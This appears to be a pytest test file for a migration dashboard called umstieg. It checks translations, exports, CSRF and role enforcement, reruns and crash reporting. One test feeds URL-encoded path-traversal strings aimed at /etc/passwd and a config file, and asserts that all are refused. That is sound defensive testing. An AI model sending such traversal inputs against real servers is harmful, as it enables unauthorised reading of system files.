    dept_file.write_text(yaml.safe_dump({
        "name": "ausweisamt", "work_dir": str(tmp_path / "work"),
        "users": [{"source": "anna", "target": "t-anna", "email": "anna@amt.example"},
                  {"source": "carl", "target": "t-carl"}],
        "sources": [{"name": "homes", "type": "folder", "root": str(tmp_path / "home")}],
        "target": {"type": "localdir", "root": str(tmp_path / "target")}}), encoding="utf-8")
    printed = CliRunner().invoke(cli, ["users", str(dept_file), "--csv"])
    assert printed.exit_code == 1, printed.output               # carl waits
    want = pd.read_csv(io.StringIO(printed.stdout), dtype=str)          # the CSV (the summary line is stderr's)
    with TestClient(create_app(Site([dept_file])), base_url="http://127.0.0.1") as c:
        assert "Not checked yet" in text_of(c.get("/departments/ausweisamt").text)
        assert c.get("/departments/ausweisamt/identities.csv").status_code == 404
        assert c.get("/departments/ausweisamt/identities", params={"check": "x"}).status_code == 400
        page = c.get("/departments/ausweisamt/identities", params={"check": "1"})
        assert page.status_code == 200
        text = html.unescape(text_of(page.text))
        assert "2 users: 1 go ahead, 1 wait" in text and "here, on request" in text
        carl = want.set_index("source").loc["carl"]
        assert carl["verdict"].startswith("wait: ") and "carl" in carl["source_account"]
        assert f"waits : {carl['verdict'][6:]}" in text, text                   # the reason umstieg users gives
        got = pd.read_csv(io.BytesIO(c.get("/departments/ausweisamt/identities.csv").content), encoding="utf-8-sig",
                          dtype=str)
        assert got.fillna("").values.tolist() == want.fillna("").sort_values("source", key=lambda s: s == "carl",
                                                                             ascending=False).values.tolist()
        department = html.unescape(text_of(c.get("/departments/ausweisamt").text))
        assert "2 users: 1 go ahead, 1 wait" in department and "Users who would wait" in department
        assert carl["source_account"] in department
        de = text_of(c.get("/departments/ausweisamt/identities", headers={"Accept-Language": "de"}).text)
        assert "Identitätszuordnung" in de and "wartet" in de


def test_report_paths_cannot_leave_the_report_folder(viewer, migrated, site):
    from reports.dashboard import safe_report_file
    report_dir = site.report_dir("testamt")
    outside = migrated.dept_file           # beside work/, outside the report folder
    (report_dir / "link-out.yaml").symlink_to(outside)
    for path in ("..%2F..%2Fdepartment.yaml", "%2E%2E/%2E%2E/department.yaml", "..%2F..%2F..%2F..%2Fetc%2Fpasswd",
                 "%2Fetc%2Fpasswd", "thumbs/..%2F..%2F..%2Fdepartment.yaml", "link-out.yaml", "thumbs"):
        r = viewer.get(f"/departments/testamt/files/{path}")
        assert r.status_code == 404, path
        assert "name: testamt" not in r.text and "root:" not in r.text
    assert safe_report_file(report_dir, "../../department.yaml") is None
    assert safe_report_file(report_dir, str(outside)) is None
    assert safe_report_file(report_dir, "assessment.json") == (report_dir / "assessment.json").resolve()
    assert viewer.get("/departments/testamt/files/assessment.json").status_code == 200


def test_assessment_page_sorts_filters_and_exports_the_risk_scan(viewer):
    r = viewer.get("/departments/testamt/assessment")
    assert r.status_code == 200 and "doc000.docx" in r.text and 'aria-sort="ascending"' in r.text
    everything = pd.read_csv(io.BytesIO(viewer.get("/departments/testamt/assessment.csv").content),
                             encoding="utf-8-sig")
    assert len(everything) == 5 and set(everything["Scan"]) == {"homes/anna", "homes/ben"}
    by_size = pd.read_csv(io.BytesIO(viewer.get("/departments/testamt/assessment.csv",
                                                 params={"sort": "size", "dir": "desc"}).content), encoding="utf-8-sig")
    assert list(by_size["Bytes"]) == sorted(everything["Bytes"], reverse=True)
    docx = viewer.get("/departments/testamt/assessment.ods", params={"format": "docx"})
    assert docx.headers["content-type"].startswith("application/vnd.oasis.opendocument.spreadsheet")
    sheet = pd.read_excel(io.BytesIO(docx.content), engine="odf")
    assert len(sheet) == 2 and set(sheet["Format"]) == {"docx"}
    page = viewer.get("/departments/testamt/assessment", params={"q": "xlsx"}).text
    assert "doc001.xlsx" in page and "doc002.pptx" not in page


def test_languages_follow_the_browser_and_the_switch_and_exports_speak_them(app):
    with client(app, VIEWER) as c:
        fr = c.get("/", headers={"Accept-Language": "fr-CH, fr;q=0.9, en;q=0.5"}).text
        assert '<html lang="fr">' in fr and "Vue d&#39;ensemble du programme" in fr
        r = c.get("/departments/testamt?lang=de")
        assert r.status_code == 303 and r.headers["location"] == "/departments/testamt"
        de = c.get("/departments/testamt", headers={"Accept-Language": "fr"}).text     # the switch wins
        assert '<html lang="de">' in de and "Fortschritt nach Benutzer" in de and "Zum Inhalt springen" in de
        csv = c.get("/departments/testamt/tables/users.csv").content.decode("utf-8-sig")
        assert csv.splitlines()[0].startswith("Benutzer,erkannt,")
        ods = pd.read_excel(io.BytesIO(c.get("/tables/departments.ods").content), engine="odf")
        assert list(ods.columns[:3]) == ["Abteilung", "Phase", "Elemente"]


def test_every_message_has_a_german_and_a_french_translation():
    from babel.messages.pofile import read_po

    from reports import dashboard as data
    from umstieg.dashboard.i18n import LOCALE_DIR
    root = Path(__file__).resolve().parents[1]
    ids = set(data.STATES) | set(data.PHASES) | set(data.VERDICTS) | set(data.ANNOTATION_VERDICTS)
    ids |= set(data.CATEGORIES) | set(data.ATTENTION) | {label for _, label in data.ATTENTION_COLUMNS}
    ids |= {"load_error", "extract_error", "convert_error", "verify_error", "transient", "conversion_timeout",
            "conversion_crashed", "conversion_too_large", "conversion_unwritable", "changed_at_source", "locked",
            "starting", "running", "completed", "failed", "refused", "interrupted", "crashed", "migrate", "rerun"}
    from reports.migration import NOT_MOVED_REASONS, RENAME_REASONS
    ids |= set(NOT_MOVED_REASONS) | set(RENAME_REASONS)
    for template in (root / "umstieg" / "dashboard" / "templates").glob("*.html"):
        text = template.read_text(encoding="utf-8")
        ids |= set(re.findall(r'_\("([^"]+)"\)', text)) | set(re.findall(r"_\('([^']+)'\)", text))
    ids |= {label for _, label in data.ITEM_COLUMNS + data.SCAN_COLUMNS + data.IDENTITY_COLUMNS}
    for module in (root / "umstieg" / "dashboard").rglob("*.py"):
        ids |= set(re.findall(r'Refused\(\d+, "([^"]+)"\)', module.read_text()))
    source = (root / "reports" / "dashboard.py").read_text(encoding="utf-8")
    ids |= set(re.findall(r'Table\("\w+", "([^"]+)"', source)) | set(re.findall(r'note="([^"]+)"', source))
    ids |= set(re.findall(r'places\.append\(\("([^"]+)"', source))
    assert len(ids) > 100
    for lang in ("de", "fr"):
        with open(LOCALE_DIR / lang / "LC_MESSAGES" / "dashboard.po", "rb") as f:
            catalog = read_po(f)
        missing = sorted(i for i in ids if catalog.get(i) is None or not catalog.get(i).string)
        assert not missing, f"{lang}: {missing}"


# ------------------------------------------------------------------------------------ actions
def test_actions_are_refused_without_the_csrf_token_or_the_operator_role(viewer, operator, site, migrated):
    from reports.dashboard import document
    page = operator.get("/departments/testamt").text
    assert 'action="/departments/testamt/rerun"' in page
    token = csrf_of(page)
    for data in ({}, {"csrf": ""}, {"csrf": token[:-1] + ("A" if token[-1] != "A" else "B")}):
        r = operator.post("/departments/testamt/rerun", data={**data, "error_class": "load_error"})
        assert r.status_code == 403, data
    r = operator.post(f"/departments/testamt/items/{migrated.docx_id}/annotation", data={"verdict": "accepted"})
    assert r.status_code == 403
    # a viewer's own valid token does not make them an operator
    viewer_token = csrf_of(viewer.get("/departments/testamt").text)
    r = viewer.post("/departments/testamt/rerun", data={"csrf": viewer_token, "error_class": "load_error"})
    assert r.status_code == 403 and "Only operators" in r.text
    r = viewer.post(f"/departments/testamt/items/{migrated.docx_id}/annotation",
                    data={"csrf": viewer_token, "verdict": "accepted"})
    assert r.status_code == 403
    # nothing happened: no rerun started, no annotation written
    assert site.ledger_of["testamt"] and not viewer.app.state.reruns.of("testamt")
    assert document(site.ledger_of["testamt"], "testamt", migrated.docx_id)["annotation"] is None
    assert document(site.ledger_of["testamt"], "testamt", migrated.failed_id)["item"]["state"] == "failed"


def test_an_operator_annotates_an_item_and_it_shows_in_the_page_and_exports(operator, viewer, migrated):
    url = f"/departments/testamt/items/{migrated.docx_id}"
    token = csrf_of(operator.get(url).text)
    r = operator.post(f"{url}/annotation", data={"csrf": token, "verdict": "manual_work",
                                                 "comment": "Tabelle prüfen <b>bitte</b>"})
    assert r.status_code == 303
    page = viewer.get(url).text
    assert "Tabelle prüfen &lt;b&gt;bitte&lt;/b&gt;" in page and "otto" in page     # escaped, with its author
    assert operator.post(f"{url}/annotation", data={"csrf": token, "verdict": "bogus"}).status_code == 400
    r = operator.post(f"{url}/annotation", data={"csrf": token, "verdict": "accepted", "comment": "passt"})
    assert r.status_code == 303
    items = pd.read_csv(io.BytesIO(viewer.get("/departments/testamt/tables/items.csv",
                                               params={"annotation": "accepted"}).content), encoding="utf-8-sig")
    assert list(items["Item"]) == [migrated.docx_id] and list(items["Comment"]) == ["passt"]
    assert "accepted" in text_of(viewer.get("/departments/testamt").text)


def test_an_operator_reruns_the_failed_items_after_the_fix_and_sees_them_finish(operator, viewer, migrated, site):
    from reports.dashboard import document
    token = csrf_of(operator.get("/departments/testamt").text)
    r = operator.post("/departments/testamt/rerun", data={"csrf": token, "error_class": "no_such_class"})
    assert r.status_code == 409                                    # nothing matches: nothing starts
    migrated.fix_failure()
    r = operator.post("/departments/testamt/rerun", data={"csrf": token, "error_class": "load_error", "user": "ben"})
    assert r.status_code == 303
    progress_url = r.headers["location"]
    assert re.fullmatch(r"/departments/testamt/reruns/\d+", progress_url)
    deadline = time.monotonic() + 300
    while "rerun-finished" not in (page := viewer.get(progress_url).text):
        assert time.monotonic() < deadline, page
        time.sleep(1)
    assert "1 verified, 0 failed" in text_of(page), text_of(page)
    assert document(site.ledger_of["testamt"], "testamt", migrated.failed_id)["item"]["state"] == "verified"
    overview = pd.read_csv(io.BytesIO(viewer.get("/tables/departments.csv").content), encoding="utf-8-sig")
    assert overview.set_index("Department").loc["testamt", "Failed"] == 0
    page = viewer.get("/departments/testamt").text
    assert "Latest runs" in page
    reports = re.findall(r'href="(/departments/testamt/files/run-\d+\.md)"', page)
    assert len(reports) == 2 and all(viewer.get(r).status_code == 200 for r in reports)    # migrate and rerun
    log = next(site.departments["testamt"].work_dir.joinpath("dashboard", "reruns").glob("rerun-*.log"))
    assert not log.resolve().is_relative_to(site.report_dir("testamt").resolve())   # not served to viewers


def test_a_rerun_that_crashes_says_why_and_none_starts_while_a_run_lives(operator, viewer, migrated, site, tmp_path):
    import json
    import os
    import socket

    from core.ledger import Run
    led = site.ledger_of["testamt"]
    token = csrf_of(operator.get("/departments/testamt").text)
    # a run of the department is alive (this process, on this host): no rerun, and the button says why
    run = led.start_run("testamt", "migrate")
    try:
        with led.session() as s:
            s.get(Run, run).summary = {"host": socket.gethostname(), "pid": os.getpid()}
        from core.ledger import Item
        with led.session() as s:                      # one failed item, so that the form shows
            s.get(Item, migrated.failed_id).state = "failed"
        page = operator.get("/departments/testamt").text
        assert 'id="rerun-busy"' in page and "disabled" in page and f"run {run}" in text_of(page)
        r = operator.post("/departments/testamt/rerun", data={"csrf": token})
        assert r.status_code == 409 and "is going on" in text_of(r.text)
    finally:
        led.finish_run(run, "completed", {})
    # the child crashes before it opens a run (its department file went bad): it says so in plain words
    broken = tmp_path / "broken.yaml"
    broken.write_text("name: testamt\nusers: [\n", encoding="utf-8")
    good = site.files["testamt"]
    site.files["testamt"] = broken
    try:
        r = operator.post("/departments/testamt/rerun", data={"csrf": token})
        assert r.status_code == 303
        deadline = time.monotonic() + 120
        while "rerun-finished" not in (page := viewer.get(r.headers["location"]).text):
            assert time.monotonic() < deadline, page
            time.sleep(0.5)
    finally:
        site.files["testamt"] = good
    text = text_of(page)
    assert "crashed" in text and "before it could open a run" in text and "broken.yaml" in text, text
    assert "Traceback" not in page and "finished:" not in text
    audit = [json.loads(line) for line in (site.departments["testamt"].work_dir / "audit" / "dashboard.jsonl")
             .read_text(encoding="utf-8").splitlines()]
    assert audit[-1]["action"] == "rerun" and audit[-1]["user"] == "otto" and audit[-1]["target"].startswith("testamt")


# ------------------------------------------------------------------------------------ reruns and real runs
def _small_department(tmp_path, name: str):
    """A real department migrated once: ben's letter fails to load (a file is in his target
    folder's way) until the test removes the blocker; anna has nothing yet."""
    import yaml

    from flows.migrate import migrate_body
    home, target = tmp_path / "home", tmp_path / "target"
    (home / "anna").mkdir(parents=True)
    (home / "ben").mkdir()
    (home / "ben" / "brief.txt").write_text("Brief von ben\n", encoding="utf-8")
    target.mkdir()
    blocker = target / "t-ben"
    blocker.write_text("in the way")
    dept_file = tmp_path / f"{name}.yaml"
    dept_file.write_text(yaml.safe_dump({
        "name": name, "work_dir": str(tmp_path / "work"),
        "users": [{"source": u, "target": f"t-{u}"} for u in ("anna", "ben")],
        "sources": [{"name": "homes", "type": "folder", "root": str(home)}],
        "target": {"type": "localdir", "root": str(target)}}), encoding="utf-8")
    migrate_body(str(dept_file))
    return dept_file, home, target, blocker


def _operator_app(dept_file, state_dir):
    from umstieg.dashboard import Site, create_app
    from umstieg.dashboard.auth import load_accounts
    state_dir.mkdir(parents=True, exist_ok=True)
    accounts = load_accounts(users_file(state_dir / "users.yaml", {"otto": ("operator", OPERATOR[2])}))
    return create_app(Site([dept_file], accounts=accounts, state_dir=state_dir))


def test_no_rerun_starts_while_a_real_migration_of_the_department_runs(tmp_path):
    """A real migration (migrate_body in a thread) is held inside its put of anna's file: the
    target's partial file is a named pipe that this test reads only when it lets the run go on.
    While it is held the button says which run is going on, a POST is refused with the plain
    reason, and nothing is started."""
    import hashlib
    import json
    import os
    import select
    import threading

    from flows.migrate import migrate_body
    from reports.dashboard import rerun_runs
    dept_file, home, target, _ = _small_department(tmp_path, "haltamt")
    (home / "anna" / "gross.txt").write_bytes(b"x" * (1 << 20))        # more than a pipe holds
    (target / "t-anna").mkdir()
    partial = target / "t-anna" / f".{hashlib.sha1(b'gross.txt').hexdigest()[:16]}.umstieg-partial"
    os.mkfifo(partial)
    reader = os.open(partial, os.O_RDONLY | os.O_NONBLOCK)      # so that the writer's open does not block
    outcome: dict = {}

    def run():
        try:
            outcome["summary"] = migrate_body(str(dept_file))
        except BaseException as exc:            # noqa: BLE001 - reported by the test below
            outcome["error"] = exc
    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    try:
        poller = select.poll()
        poller.register(reader, select.POLLIN)
        assert poller.poll(180_000), f"the migration never wrote anna's file: {outcome}"
        # the run is now open in the ledger and held in the middle of its put (the pipe is full)
        app = _operator_app(dept_file, tmp_path / "state")
        with client(app, OPERATOR) as c:
            led = app.state.site.ledger_of["haltamt"]
            from reports.dashboard import live_run
            live = live_run(led, "haltamt")
            assert live is not None and live["flow"] == "migrate"
            page = c.get("/departments/haltamt").text
            busy = re.search(r'<p id="rerun-busy"[^>]*>(.*?)</p>', page, re.S)
            assert busy, "the rerun form does not say a run is going on"
            assert f"A run of this department is going on (run {live['id']}, migrate" in text_of(busy.group(1))
            assert re.search(r'<button type="submit" id="rerun-button" disabled', page)
            r = c.post("/departments/haltamt/rerun", data={"csrf": csrf_of(page)})
            assert r.status_code == 409
            assert "A run of this department is going on: a rerun can start when it has ended." in text_of(r.text)
            assert "Traceback" not in r.text
            assert app.state.reruns.of("haltamt") == [] and rerun_runs(led, "haltamt") == []
            assert not list((tmp_path / "work" / "dashboard" / "reruns").glob("*.log"))
            audit = tmp_path / "work" / "audit" / "dashboard.jsonl"
            actions = [json.loads(line)["action"] for line in audit.read_text(encoding="utf-8").splitlines()]
            assert "login" in actions and "rerun" not in actions
    finally:
        os.set_blocking(reader, True)                     # let the migration go on: read its file to the end
        while os.read(reader, 1 << 16):
            pass
        os.close(reader)
        thread.join(120)
    assert not thread.is_alive() and "error" not in outcome, outcome


def test_a_reruns_page_comes_back_after_the_dashboard_restarts(tmp_path):
    """Two reruns (one that crashes, one that finishes) started from one dashboard; after a
    restart their pages read the same runs from the ledger and the same logs, and the department
    page lists them."""
    dept_file, _, _, blocker = _small_department(tmp_path, "neustartamt")
    state = tmp_path / "state"
    app = _operator_app(dept_file, state)
    broken = tmp_path / "broken.yaml"
    broken.write_text("name: neustartamt\nusers: [\n", encoding="utf-8")
    with client(app, OPERATOR) as c:
        site = app.state.site
        token = csrf_of(c.get("/departments/neustartamt").text)
        site.files["neustartamt"] = broken                       # the child cannot read its department file
        r = c.post("/departments/neustartamt/rerun", data={"csrf": token})
        site.files["neustartamt"] = dept_file.resolve()
        assert r.status_code == 303
        crashed_url = r.headers["location"]
        crashed = app.state.reruns.get(int(crashed_url.rsplit("/", 1)[1]))
        assert crashed.process.wait(120) != 0
        blocker.unlink()                                          # the cause is fixed
        r = c.post("/departments/neustartamt/rerun", data={"csrf": token})
        assert r.status_code == 303
        finished_url = r.headers["location"]
        job = app.state.reruns.get(int(finished_url.rsplit("/", 1)[1]))
        job.process.wait(300)
        before = {url: text_of(c.get(url).text) for url in (crashed_url, finished_url)}
    assert "1 verified, 0 failed" in before[finished_url], before[finished_url]
    assert "crashed" in before[crashed_url] and "broken.yaml" in before[crashed_url], before[crashed_url]

    again = _operator_app(dept_file, state)                      # the dashboard restarts
    with client(again, OPERATOR) as c:
        for url in (crashed_url, finished_url):
            page = c.get(url)
            assert page.status_code == 200, url
            assert _same_status(page.text, before[url]), url
        finished = text_of(c.get(finished_url).text)
        assert "finished : 1 verified, 0 failed" in finished and job.log.name in finished
        crash = text_of(c.get(crashed_url).text)
        assert "the rerun ended before it could open a run" in crash and "broken.yaml" in crash
        assert crashed.log.name in crash
        department = c.get("/departments/neustartamt").text
        for url in (crashed_url, finished_url):
            assert f'href="{url}"' in department, url
        assert again.state.reruns.busy("neustartamt") is None


def _same_status(page: str, before: str) -> bool:
    """The status block of a rerun's page says the same as before (its words, not its markup)."""
    status = re.search(r'<div role="status" id="rerun-status".*?</div>', page, re.S).group(0)
    return text_of(status).strip() in before


# ------------------------------------------------------------------------------------ the command
def test_the_command_refuses_open_access_off_loopback_and_plaintext_passwords(migrated, tmp_path):
    from typer.testing import CliRunner

    from umstieg.cli import app
    runner = CliRunner()
    r = runner.invoke(app, ["dashboard", str(migrated.dept_file), "--host", "0.0.0.0"])
    assert r.exit_code == 2 and "without logins" in r.output
    plain = tmp_path / "users.yaml"
    plain.write_text("users:\n  anna:\n    role: operator\n    password: geheim\n")
    r = runner.invoke(app, ["dashboard", str(migrated.dept_file), "--users", str(plain), "--host", "0.0.0.0"])
    assert r.exit_code == 2 and "plaintext" in r.output and "geheim" not in r.output
    r = runner.invoke(app, ["dashboard", "--hash-password"], input="s3cret\ns3cret\n")
    assert r.exit_code == 0
    from umstieg.dashboard.auth import check_password
    hashed = r.output.strip().splitlines()[-1]
    assert hashed.startswith("scrypt$") and check_password("s3cret", hashed) and not check_password("x", hashed)


def test_without_logins_the_dashboard_is_read_only(migrated):
    from umstieg.dashboard import Site, create_app
    with TestClient(create_app(Site([migrated.dept_file])), base_url="http://127.0.0.1",
                    follow_redirects=False) as c:
        page = c.get("/departments/testamt")
        assert page.status_code == 200 and "Read-only" in page.text and "/rerun" not in page.text
        assert c.post("/departments/testamt/rerun", data={"csrf": ""}).status_code == 401


# ------------------------------------------------------------------------------------ PostgreSQL
def test_the_department_figures_on_a_postgresql_ledger(postgres_url):
    """The PostgreSQL side of the SQL: JSON elements, the generated format column, the overview."""
    import sys
    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "benchmarks"))
    from dashboard_render import fill

    from core.ledger import Item, Ledger
    from reports import dashboard as data
    from sqlalchemy import select, text
    ledger = Ledger(postgres_url)
    try:
        ledger.migrate()
        fill(ledger, "pgdashamt", 600)
        view = data.department_view(ledger, "pgdashamt")
        with ledger.session() as s:
            rows = s.execute(select(Item.location, Item.fidelity_score, Item.fidelity, Item.state)
                             .where(Item.department == "pgdashamt")).all()
            formats = {f for f, in s.execute(text("SELECT DISTINCT file_format FROM items "
                                                  "WHERE department = 'pgdashamt' AND fidelity_score IS NOT NULL"))}
        measured = [r for r in rows if r.fidelity_score is not None]
        assert formats == {Path(r.location).suffix[1:] for r in measured}
        assert sum(r["total"] for r in view["tables"]["verdicts"].rows) == len(measured)
        assert {r["format"] for r in view["tables"]["verdicts"].rows} == formats
        checks = Counter(d["check"] for r in measured for d in r.fidelity["deductions"])
        top = {r["check"]: r["items"] for r in view["tables"]["deductions"].rows}
        assert top == dict(checks.most_common(10))
        risks = Counter(f for r in measured for f in r.fidelity["risks"])
        assert {r["flag"]: r["files"] for r in view["tables"]["risks"].rows} == dict(risks)
        assert view["total"] == 600 and view["failed"] == sum(r.state == "failed" for r in rows)
        overview = data.overview(ledger, data.departments_in(ledger))
        assert overview["departments"][0]["items"] == 600 and overview["departments"][0]["phase"] == "delta"
        page = data.item_page(ledger, "pgdashamt", {"state": "failed"}, 1, per_page=5)
        assert page["total"] == view["failed"] and all(r["state"] == "failed" for r in page["table"].rows)
        with ledger.session() as s:
            for location, want in (("a/b.DOCX", "docx"), ("noext", ""), ("dir.d/file", ""), ("x.tar.gz", "gz")):
                got = s.scalar(select(data.file_ext(literal_column(f"'{location}'"))))
                assert got == want, location
    finally:
        ledger.close()
